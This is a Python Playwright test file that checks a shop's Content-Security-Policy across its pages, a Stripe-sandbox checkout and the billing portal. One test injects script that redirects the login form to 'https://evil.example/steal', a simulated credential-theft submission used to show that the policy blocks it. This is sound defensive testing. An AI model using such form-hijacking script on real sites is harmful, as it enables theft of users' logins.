"""The shop's own pages pass its Content-Security-Policy in Chromium: every page of the
shop (by guest, shopper and admin), a purchase through the hosted Checkout page and the
billing portal, with a console listener that fails on any CSP violation Chrome reports.

`form-action` is enforced by Chrome on the redirect after a POST too, so the Checkout
and Manage billing buttons prove the sandbox's hosted pages are allowed.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect
from stripe_sandbox.testing import RunningSandbox

from shop.extensions import db
from shop.models import Order
from tests import helpers
from tests.browsing import Screenshots, pay_by_card, register, sign_in, tab_opener
from tests.integration.live_shop import LiveShop
from tests.integration.shop_pages import ADMIN, PAGES, SHOPPER, Who, long_catalogue, seed_shop

pytestmark = [pytest.mark.browser, pytest.mark.sandbox]


class Violations:
    """Console messages about the Content Security Policy, from every tab watched."""

    def __init__(self) -> None:
        self.messages: list[str] = []

    def watch(self, tab: Page) -> Page:
        tab.on("console", self.heard)
        return tab

    def heard(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.messages.append(f"{message.page.url if message.page else '?'}: {message.text}")


@pytest.fixture
def tabs(browser: Browser) -> Iterator[Callable[[], Page]]:
    yield from tab_opener(browser, viewport={"width": 1100, "height": 900})


def test_every_page_of_the_shop_passes_its_content_security_policy(
    sandbox: RunningSandbox,
    serve_shop: Callable[..., LiveShop],
    tmp_path: Path,
    tabs: Callable[[], Page],
) -> None:
    shop = serve_shop(sandbox, WTF_CSRF_ENABLED=True, CATALOGUE_PATH=str(long_catalogue(tmp_path)))
    seeded = seed_shop(shop)
    violations = Violations()
    who_tabs: dict[Who, Page] = {}
    for who, email in ((Who.GUEST, None), (Who.SHOPPER, SHOPPER), (Who.ADMIN, ADMIN)):
        who_tabs[who] = violations.watch(tabs())
        if email is not None:
            sign_in(who_tabs[who], shop.url, email, helpers.PASSWORD)
    for shop_page in PAGES:
        tab = who_tabs[shop_page.who]
        answer = tab.goto(shop.url + seeded.path(shop_page))
        assert answer is not None and answer.status == shop_page.status, shop_page.name
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        tab.wait_for_load_state("load")
    assert violations.messages == []


def test_buying_and_managing_billing_pass_the_content_security_policy(
    page: Page, browser_shop: LiveShop, shots: Screenshots
) -> None:
    violations = Violations()
    violations.watch(page)
    register(page, browser_shop, shots, email="csp@example.com")
    page.goto(browser_shop.url + "/books/the-salt-road")
    page.get_by_role("button", name="Buy now").click()
    page.get_by_role("button", name="Checkout").click()  # a POST redirected to Stripe's page
    pay_by_card(page, "4242 4242 4242 4242", shots, "Pay", shipping=True)
    expect(page.get_by_role("heading", name="Thank you — your order is confirmed")).to_be_visible()
    shots.take("csp-confirmation")
    assert browser_shop.read(lambda: db.session.get(Order, 1).status) == "paid"

    page.goto(browser_shop.url + "/account")
    page.get_by_role("button", name="Manage billing").click()  # redirected to the portal
    expect(page).to_have_url(
        re.compile("^" + re.escape(browser_shop.sandbox.base_url + "/portal/"))
    )
    shots.take("csp-portal")
    page.goto(browser_shop.url + "/library")
    assert violations.messages == []


def test_a_form_posting_elsewhere_is_blocked_and_reported(
    page: Page, browser_shop: LiveShop
) -> None:
    """The listener hears Chrome's report, so the checks above can fail."""
    violations = Violations()
    violations.watch(page)
    page.goto(browser_shop.url + "/login")
    page.get_by_label("Email").fill("someone@example.com")
    page.get_by_label("Password").fill("anything at all")
    page.evaluate(
        "const form = document.querySelector('main form');"
        "form.action = 'https://evil.example/steal'; form.requestSubmit();"
    )
    page.wait_for_timeout(500)
    assert any("form-action" in message for message in violations.messages)
    assert page.url.startswith(browser_shop.url)
